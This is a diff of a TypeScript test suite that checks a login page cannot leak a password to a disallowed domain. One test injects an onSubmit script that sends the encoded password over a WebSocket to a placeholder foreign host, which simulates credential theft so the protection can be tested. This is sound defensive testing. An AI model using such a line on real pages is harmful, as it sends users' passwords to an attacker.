@@ -67,7 +67,7 @@ interface Attack extends Pick<TestContext, "expect"> {
   readonly browser: LoginBrowser;
 }
 
-/** Logs in on a page that gives the password away: the login fails with a message, and the password stays. */
+/** Logs in on a page that leaks the password: the login fails with a message, and the password stays. */
 async function keepsPassword(page: Page, message: RegExp, attack: Attack): Promise<void> {
   const { expect } = attack;
   const received = await failsToLogIn(page, message, attack);
@@ -155,7 +155,10 @@ describe("a password does not get to a domain that is not allowed", () => {
     expect(received.filter((line) => line.includes(half))).toEqual([]);
   });
 
-  test("a WebSocket that sent a password fails the login, which says that the value is known there", async ({ browser, expect }) => {
+  test("a WebSocket that sent a password fails the login, which says that the value is known there", async ({
+    browser,
+    expect,
+  }) => {
     const page = onSubmit(
       `event.preventDefault(); new WebSocket("FOREIGN/in?p=".replace("http", "ws") + encodeURIComponent(value()));`,
     );
